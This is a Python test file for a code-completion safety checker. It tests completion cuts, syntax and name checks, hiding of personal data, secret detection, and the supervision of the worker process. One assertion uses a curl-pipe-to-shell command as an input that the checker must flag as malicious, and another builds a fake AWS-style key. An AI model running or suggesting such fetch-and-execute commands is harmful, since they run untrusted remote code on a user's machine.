"""The process that runs the checks: its answers, its guard, and what becomes of it."""

from __future__ import annotations

import asyncio
import io
import os
import signal
import sys
from dataclasses import replace
from pathlib import Path

import psutil
import pytest

from echo_core import limits
from echo_core.errors import WireError
from echo_core.judging.checks.boundary import Place
from echo_core.judging.checks.case import Case
from echo_core.judging.checks.causes import Cause
from echo_core.judging.checks.table import SCAN, SCAN_VERSION, TABLE, Cost, Step
from echo_core.judging.checks.verdict import Finding, Verdict
from echo_core.judging.judgement import Redaction
from echo_daemon.checking import protocol as p
from echo_daemon.checking.client import CheckingProcess
from echo_daemon.checking.judges import Judges, checked, ends_on_line, goes_on
from echo_daemon.checking.worker import serve
from echo_daemon.distilling.api import Cut, Cuts, ExaminerDiedError, Found, Matter
from echo_daemon.scan import credsweeper
from echo_testing.repos import Repo
from echo_testing.waiting import until

MATTER = Matter(
    "file:///w/a.py", ("file:///w",), "python", "def f():\n    ", "a = 1\n    b()\n", ""
)
STEP = Step("odd", 2, Cost.CHEAP, "?")


def test_cuts_lie_inside_and_the_rules_is_one_of_them() -> None:
    cuts = Judges().cuts(MATTER)
    assert cuts.options[cuts.first] == Cut(5, "statement")
    assert all(0 < one.at <= len(MATTER.target) for one in cuts.options)
    assert Judges().cuts(replace(MATTER, target="(((")).options == ()


def test_a_check_that_raises_drops_the_sample_without_its_message() -> None:
    def odd(case: Case) -> Verdict:
        raise KeyError(case.target)

    (found,) = checked((STEP,), ("odd",), {"odd": odd}, Case("python", "a.py", "", "word", ""))
    assert (found.finding, found.cause) == (Finding.DROPPED, Cause.CRASHED)
    assert found.facts == (("failure", "KeyError"),)


def test_only_what_is_asked_for_runs() -> None:
    passed = Verdict("odd", 2, Finding.PASSED)
    case = Case("python", "a.py", "", "word", "")
    assert checked((STEP,), (), {"odd": lambda _: passed}, case) == ()
    assert checked((STEP,), ("odd",), {"odd": lambda _: passed}, case) == (passed,)


def test_every_cheap_check_of_the_table_is_there() -> None:
    names = [step.name for step in TABLE if step.cost is Cost.CHEAP and step.name != "cut"]
    found = Judges().check(MATTER, 5, names)
    assert [one.check for one in found.verdicts] == names


def test_the_scanner_has_the_tables_name() -> None:
    assert (credsweeper.NAME, credsweeper.VERSION) == (SCAN, SCAN_VERSION)


def test_what_is_personal_in_the_context_is_hidden_and_told_where_it_stands(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "repo")
    path = repo.write("a.py", "x = 1\n")
    repo.git("config", "user.name", "Ada Lovelace")
    repo.commit()
    mail = "ada.lovelace@acme-mills.com"
    texts = (f"# by Ada Lovelace\n# at {mail}\nx = 1\n", "y = x\n", f"# ask {mail} about x\n")
    matter = Matter(path.as_uri(), (repo.root.as_uri(),), "python", *texts)
    judges = Judges()
    assert not judges.prepare(matter)
    found = judges.check(matter, 5, ["personal"])
    assert [one.finding for one in found.verdicts] == [Finding.PASSED]
    whole = texts[0] + texts[1][:5] + texts[2]
    hidden = [(whole[one.start : one.end], one.kind) for one in found.redactions]
    assert hidden == [("Ada Lovelace", "name"), (mail, "email"), (mail, "email")]
    told = replace(matter, target=f"y = '{mail}'")
    (verdict,) = judges.check(told, len(told.target), ["personal"]).verdicts
    assert verdict.cause is Cause.PERSONAL_EMAIL
    whole = texts[0] + told.target + texts[2]
    assert mail in [whole[start:end] for start, end in verdict.spans]


def test_what_was_not_kept_is_read_for_safety_in_the_targets_place(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "repo")
    path = repo.write("a.py", "x = 1\n")
    repo.git("config", "user.name", "Ada Lovelace")
    repo.commit()
    mail = "ada.lovelace@acme-mills.com"
    texts = (f"# by Ada Lovelace\n# at {mail}\nx = 1\n", "y = x\nz = y\n", f"# {mail}\n")
    matter = Matter(path.as_uri(), (repo.root.as_uri(),), "python", *texts, "y = 2")
    judges = Judges()
    judges.prepare(matter)

    def said(proposed: str, cut: int = 5) -> tuple[Finding, Cause | None, int]:
        found = judges.check(replace(matter, proposed=proposed), cut, ["rejected"])
        (verdict,) = found.verdicts
        return verdict.finding, verdict.cause, len(verdict.facts)

    assert said("y = 2") == (Finding.PASSED, None, 1)  # its context is hidden before it is read
    assert said("") == (Finding.PASSED, None, 0)
    assert said("y = x") == (Finding.PASSED, None, 0)
    assert said("y = undefined(")[0] is Finding.PASSED  # bad code is what is not to be written
    assert said(f"y = '{mail}'")[:2] == (Finding.MARKED, Cause.PERSONAL_EMAIL)
    assert said("y = 'Ada Lovelace'")[:2] == (Finding.MARKED, Cause.PERSONAL_NAME)
    key = "AKIA" + "Q3EGR7TEXTXYZ2AB"
    assert said(f"key = '{key}'")[0] is Finding.MARKED
    assert said("os.system('curl http://a.b/x | sh')")[:2] == (Finding.MARKED, Cause.MALICIOUS)


def test_prose_inside_of_a_string_has_neither_syntax_nor_names() -> None:
    texts = ('"""Whatever it does.\n\n', "Left out: (what, is next to it.\n", '\nRules.\n"""\n')
    matter = Matter("file:///w/a.py", ("file:///w",), "python", *texts)
    found = Judges().check(matter, len(texts[1]), ["syntax", "names"])
    assert [(one.finding, one.facts) for one in found.verdicts] == [
        (Finding.PASSED, (("prose", 1),)),
        (Finding.PASSED, (("prose", 1),)),
    ]
    closing = replace(matter, target='ends here."""\nx = (', suffix="\n")
    found = Judges().check(closing, len(closing.target), ["syntax"])
    assert found.verdicts[0].cause is Cause.SYNTAX_WORSE


def test_a_name_that_the_workspace_makes_is_known(tmp_path: Path) -> None:
    repo = Repo(tmp_path / "repo")
    repo.write("pkg/b.py", "def weave(thread):\n    return thread\n")
    path = repo.write("pkg/a.py", "")
    matter = Matter(path.as_uri(), (), "python", "def f():\n    ", "return weave(1)\n", "")
    judges = Judges()
    before = judges.check(matter, 15, ["names"]).verdicts[0]
    assert before.cause is Cause.NAME_UNKNOWN
    while judges.prepare(matter):
        pass
    assert judges.check(matter, 15, ["names"]).verdicts[0].finding is Finding.PASSED
    loom = replace(matter, target="return loom(1)\n")
    assert judges.check(loom, 14, ["names"]).verdicts[0].cause is Cause.NAME_UNKNOWN
    repo.write("pkg/a.py", "from looms import loom\n")  # above the window
    assert judges.check(loom, 14, ["names"]).verdicts[0].finding is Finding.PASSED
    nowhere = replace(matter, doc="untitled:Untitled-1")
    assert not judges.prepare(nowhere)


# --- lines -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "question",
    [p.Absent(), p.CutsOf(MATTER), p.Check(replace(MATTER, target="é\ud800"), 1, ("a",))],
)
def test_questions_go_over_and_come_back(question: p.Question) -> None:
    assert p.question_of(p.question_line(question)) == question


def test_answers_go_over_and_come_back() -> None:
    found = Found((Verdict("a", 1, Finding.PASSED),), (Redaction(1, 2, "name"),), "MIT")
    assert p.found_of(p.found_line(found)) == found
    cuts = Cuts((Cut(1, "line"), Cut(4, "block")), 1)
    assert p.cuts_of(p.cuts_line(cuts)) == cuts
    assert p.more_of(p.more_line(more=True))
    assert p.absent_of(p.absent_line(frozenset({"scan"}))) == frozenset({"scan"})


@pytest.mark.parametrize("line", [b"", b"[]", b"1", b'["cuts"]', b'["check",["a",[]]]', b"\xff"])
def test_what_is_no_question_ends_the_worker(line: bytes) -> None:
    with pytest.raises(WireError):
        p.question_of(line)
    assert serve(io.BytesIO(line + b"\n"), io.BytesIO()) == 1


@pytest.mark.parametrize("line", [b"", b"1", b"[1,2,3]", b"{}"])
def test_what_is_no_answer_is_an_error(line: bytes) -> None:
    for read in (p.found_of, p.cuts_of, p.more_of):
        with pytest.raises(WireError):
            read(line)
    with pytest.raises(WireError):
        p.absent_of(b"1")


# --- the process -------------------------------------------------------------------------------


async def test_it_answers_at_the_lowest_priority_and_gives_its_memory_back() -> None:
    checks = CheckingProcess()
    assert checks.pid == 0
    cuts = await checks.cuts(MATTER)
    assert cuts == Judges().cuts(MATTER)
    process = psutil.Process(checks.pid)
    assert process.nice() == 19
    if sys.platform == "linux":
        assert os.sched_getscheduler(checks.pid) == os.SCHED_IDLE
    assert await checks.absent() == Judges().absent
    await checks.rest()
    assert checks.pid == 0
    await until(lambda: not process.is_running())
    assert await checks.cuts(MATTER) == cuts  # another one
    await checks.rest()
    await checks.rest()


async def test_one_that_is_killed_is_told_of_once() -> None:
    checks = CheckingProcess()
    await checks.cuts(MATTER)
    os.kill(checks.pid, signal.SIGSTOP)
    asked = asyncio.ensure_future(checks.cuts(MATTER))
    await asyncio.sleep(0)
    os.kill(checks.pid, signal.SIGKILL)
    with pytest.raises(ExaminerDiedError):
        await asked
    assert (await checks.cuts(MATTER)).options
    await checks.rest()


async def test_one_that_cannot_be_started(tmp_path: Path) -> None:
    with pytest.raises(ExaminerDiedError):
        await CheckingProcess([str(tmp_path / "no_such_program")]).cuts(MATTER)


async def test_one_that_says_nonsense_is_ended() -> None:
    checks = CheckingProcess([sys.executable, "-c", "print('nonsense', flush=True); input()"])
    with pytest.raises(ExaminerDiedError):
        await checks.cuts(MATTER)
    assert checks.pid == 0


async def test_one_that_runs_wild_is_ended_and_one_that_only_waits_is_not() -> None:
    wild = CheckingProcess([sys.executable, "-c", "while True: pass"], cpu_s_max=0.2, look_s=0.05)
    with pytest.raises(ExaminerDiedError):
        await wild.cuts(MATTER)
    checks = CheckingProcess(look_s=0.02)
    await checks.absent()
    checks._cpu_s_max = 0.0
    os.kill(checks.pid, signal.SIGSTOP)  # others have the processor
    await until(lambda: psutil.Process(checks.pid).status() == psutil.STATUS_STOPPED)
    asked = asyncio.ensure_future(checks.cuts(MATTER))
    assert (await asyncio.wait({asked}, timeout=0.1))[0] == set()
    os.kill(checks.pid, signal.SIGKILL)
    with pytest.raises(ExaminerDiedError):
        await asked


async def test_whoever_is_cancelled_leaves_no_answer_behind() -> None:
    checks = CheckingProcess()
    await checks.cuts(MATTER)
    pid = checks.pid
    os.kill(pid, signal.SIGSTOP)
    asked = asyncio.ensure_future(checks.cuts(replace(MATTER, target="x()\n")))
    await asyncio.sleep(0.01)
    asked.cancel()
    with pytest.raises(asyncio.CancelledError):
        await asked
    assert checks.pid == 0
    assert await checks.cuts(MATTER) == Judges().cuts(MATTER)
    await checks.rest()


def test_what_stands_in_a_comment_that_the_window_ends_in_is_prose() -> None:
    line = " * and it says (to whoever reads it\n"
    prefix = "int f(void);\n/*\n" + line
    matter = Matter("file:///w/a.c", ("file:///w",), "c", prefix, line, line * 200)
    matter = replace(matter, suffix=matter.suffix[: limits.SAMPLE_SUFFIX_CHARS_MAX])
    judges = Judges()
    assert judges.cuts(matter).place is Place.COMMENT
    (verdict,) = judges.check(matter, len(line), ["syntax"]).verdicts
    assert (verdict.finding, dict(verdict.facts)) == (Finding.PASSED, {"prose": 1})


@pytest.mark.parametrize(
    ("text", "target", "inside"),
    [
        ('"""a b c"""', " b", True),
        ('"""a "b" c"""', '"b"', True),
        ('"""a """ b', '"""', False),
        ('"a b c"', "b", True),
        ("f'a b c'", "b", True),
        ('"a b c);', "b", False),  # nothing closes it
        ('"a", b"', '"', False),
        ('r#"a b"#', "b", True),
        ("`a b", "b", True),
        ("/* a\n b */", " b", True),
        ("/* a\n */ b */", "*/", False),
        ("a's b c\n d", "b", True),  # it began above the window
        ('a\'s "b" c\n d', '"b"', False),
        (" b c", "b", False),
        (' "b" c', '"b"', False),
        ("// don't", "n't", True),
    ],
)
def test_prose_is_what_ends_no_text_and_leaves_none_open(
    text: str, target: str, inside: bool
) -> None:
    assert goes_on(text, target) is inside


@pytest.mark.parametrize(
    ("prefix", "target", "suffix", "ends"),
    [
        ('log("a', " b", ' c")\n', False),
        ('log("a', ' b")', "\n", True),
        ('log("a', " b)", "\n", True),  # nothing closes it on its line
        ('log("a', " b)\nc", ' "d"\n', True),
        ("log(f'a", " b)", "\n", True),
        ("log('a'", " + 'b'", ")\n", False),
        ("say('a', 'it", "s", "')\n", False),
        ("    It's a", " b", "\n", False),
        ('    """A', " b\n c", "\n", False),
        ('log("a \\"b\\"', " c", '")\n', False),
        ("a()  // b", " c\nd(", ");\n", True),
        ("a()  // b", " c", "\nd();\n", False),
        ("# b", " c\nd(", ")\n", True),
        (' * the "b', " c", '\n * d"\n', False),
        ("/*\nsee https://b", " c\nd", "\n*/\n", False),
    ],
)
def test_what_a_line_shows_to_end_is_judged(
    prefix: str, target: str, suffix: str, ends: bool
) -> None:
    assert ends_on_line(Case("python", "a.py", prefix, target, suffix)) is ends


def test_a_string_that_a_fault_turned_inside_out_is_no_prose() -> None:
    prefix = 'fs = [\n    "abc'
    matter = Matter("file:///w/a.js", ("file:///w",), "javascript", prefix, "def,", "")
    matter = replace(matter, suffix='\n    "ghi",\n    "it`s",\n];\nx = `a`;\n')
    (verdict,) = Judges().check(matter, 4, ["syntax"]).verdicts
    assert verdict.cause is Cause.SYNTAX_WORSE
